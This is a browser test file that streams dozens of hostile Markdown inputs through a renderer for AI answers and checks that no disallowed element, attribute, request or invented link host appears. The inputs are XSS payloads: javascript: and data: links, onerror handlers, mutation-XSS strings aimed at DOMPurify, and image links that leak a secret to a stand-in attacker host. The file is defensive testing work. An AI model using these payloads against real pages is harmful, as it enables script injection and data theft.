/**
 * Answers that want to be more than text. What stands in the page is held against a list of what may, and against two
 * readers that others wrote: DOMPurify must find nothing to take out, and a full Markdown parser every link that is there.
 * More texts come from a file named by GUICHET_HOSTILE_TEXTS, a JSON list: collections of others that are not ours to keep.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { Marked } from 'marked';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type MarkdownBench, openMarkdownBench } from './support/markdown-bench.ts';
import { type Stage, setStage } from './support/stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await setStage({ model: 'echo' });
});
afterAll(() => stage?.close());

/** Ways in which texts have got scripts, addresses or nodes past other readers of Markdown. */
const OWN = [
  '[a](<https://ok.example .evil.example/x>)',
  '<https://0xc0a80001/x> and <https://[::1]/x>',
  '```<script>alert(1)</script>\nx\n```',
  '<https://example.com#@evil.example/x> <https://example.com?@evil.example/x>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&colon;alert(1))',
  '[a](java&#x09;script:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](\\x01javascript:alert(1))',
  '[a]( javascript:alert(1) "x")',
  '[a](<javascript:alert(1)>)',
  '[a][b]\n\n[b]: javascript:alert(1)\n\nx',
  '<javascript:alert(1)>',
  '<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>',
  '![a](https://evil.example/?secret)',
  '![a][b]\n\n[b]: https://evil.example/?secret\n\nx',
  '![a](x" onerror="alert(1))',
  '[a](https://ok.example "\\" onmouseover=alert(1) \\"")',
  '[https://bank.example](https://evil.example)',
  '[bank.example](//evil.example)',
  'https://bank.example@evil.example',
  'https://ok.example/"onmouseover="alert(1)',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://evil.example)}</style>',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [b](javascript:alert(1)) |',
  '- [x](vbscript:msgbox) <input autofocus onfocus=alert(1)>',
  '# <base href="https://evil.example">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // Kinds that collections against other readers are made of.
  '![a](//evil.example/x) ![b](https://evil.example@ok.example/x)',
  '[![a](https://evil.example/a.png)](https://evil.example)',
  '![](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg',
  '[a](data:text/html,<script>alert(1)</script>)',
  '<https://evil.example/"onclick=alert(1)>',
  '[a](https://evil.example\\@bank.example)',
  '[a](&#x6A;avascript&#58;alert(1)) [b](java\nscript:alert(1)) [c](\tjavascript:alert(1))',
  '$\\href{javascript:alert(1)}{x}$ \\[\\includegraphics{https://evil.example/x}\\]',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><object data="javascript:alert(1)">',
];

const more = process.env.GUICHET_HOSTILE_TEXTS;
const OTHERS: string[] = more ? JSON.parse(readFileSync(more, 'utf8')) : [];

/** As it is, in code, as a label, and deep in a list. */
const around = (text: string) => [text, `\`${text}\``, `[${text}](https://ok.example)`, `> - **${text}**`];

const HOSTILE = [...OWN, ...OTHERS].flatMap(around);

/** Longer ones are looked at after each piece, not after each sign. */
const SHORT = 200;

interface Seen {
  found: string[];
  looked: number;
  /** The addresses in the end, of each text. */
  links: string[][];
}

async function hunt(page: Page, texts: readonly string[]): Promise<Seen> {
  return page.evaluate(
    ([texts, short]) => {
      const { DOMPurify } = window as unknown as { DOMPurify: { sanitize(html: string, options: object): string } };
      const allowed =
        /^(?:P|H[3-6]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|HR|BR|DIV|TABLE|THEAD|TBODY|TR|TH|TD|EM|STRONG|DEL|A|SPAN)$/;
      const found: string[] = [];
      const links: string[][] = [];
      let looked = 0;
      const parsed = (html: string) => {
        const template = document.createElement('template');
        template.innerHTML = html;
        return template.innerHTML;
      };
      for (const text of texts) {
        let last: string[] = [];
        for (let cut = 0; cut <= Math.min(64, text.length); cut++) {
          const { place, stream } = (window as unknown as MarkdownBench).open();
          document.body.replaceChildren(place);
          const look = () => {
            looked++;
            for (const element of place.querySelectorAll('*')) {
              if (!allowed.test(element.tagName)) found.push(`${element.tagName} from ${text}`);
              for (const { name, value } of element.attributes) {
                const isFine =
                  /^(?:dir|class|rel|target|tabindex|scope|start|data-tight|data-language)$/.test(name) ||
                  (name === 'href' && /^(?:https?|mailto|tel):/.test(value) && URL.parse(value)?.username === '');
                if (!isFine) found.push(`${name}=${value} from ${text}`);
              }
            }
          };
          stream.write(text.slice(0, cut));
          look();
          const rest = text.slice(cut);
          for (const piece of text.length <= short ? rest : [rest]) {
            stream.write(piece);
            look();
          }
          stream.end();
          look();
          const { innerHTML: html } = place;
          if (cut % 8 > 0) continue;
          const clean = DOMPurify.sanitize(html, { ADD_ATTR: ['target'] });
          // A tree is read as it is: what would become another one when its text is parsed is a way past.
          if (parsed(html) !== html) found.push(`another tree when parsed, from ${text}`);
          if (clean !== html) found.push(`DOMPurify took something out, from ${text}`);
          last = [...place.querySelectorAll('a')].map(({ href }) => href);
        }
        links.push(last);
      }
      return { found: [...new Set(found)], looked, links };
    },
    [texts, SHORT] as const,
  );
}

/** As we read it: HTML is text. */
const FULL_PARSER = new Marked({ gfm: true, tokenizer: { html: () => undefined, tag: () => undefined } });

/** @returns the hosts that a full parser of Markdown leads to in each text, as a browser reads them */
async function hostsOf(page: Page, texts: readonly string[]): Promise<string[][]> {
  const pages = texts.map((text) => FULL_PARSER.parse(text, { async: false }));
  return page.evaluate(
    (all) =>
      all.map((html) => {
        const read = new DOMParser().parseFromString(html, 'text/html');
        const leading = [...read.querySelectorAll<HTMLAnchorElement | HTMLImageElement>('a, img')];
        return leading.map((node) => URL.parse('src' in node ? node.src : node.href)?.host ?? '');
      }),
    pages,
  );
}

it('no hostile text makes a node or an address that an answer may not have, at no moment of its stream', {
  timeout: OTHERS.length > 0 ? 1_800_000 : 240_000,
}, async () => {
  const page = await openMarkdownBench(stage);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.evaluate(readFileSync(path.resolve('node_modules/dompurify/dist/purify.min.js'), 'utf8'));
  await page.evaluate(() => {
    window.alert = () => Object.assign(window, { wasRun: true });
  });
  const { found, looked, links } = await hunt(page, HOSTILE);
  expect(found).toEqual([]);
  expect(looked).toBeGreaterThan(20_000);
  expect(requests).toEqual([]);
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  const known = await hostsOf(page, HOSTILE);
  // What is written out is nobody's invention, wherever its end is seen; numbers in brackets have many spellings.
  const isKnown = (host: string, place: number) =>
    host.startsWith('[') || known[place]?.includes(host) || HOSTILE[place]?.includes(`//${host}`);
  const invented = links.flatMap((own, place) =>
    own
      .filter((link) => !isKnown(URL.parse(link)?.host ?? link, place))
      .map((link) => `${link} from ${HOSTILE[place]}`),
  );
  expect(invented).toEqual([]);
  await page.close();
});
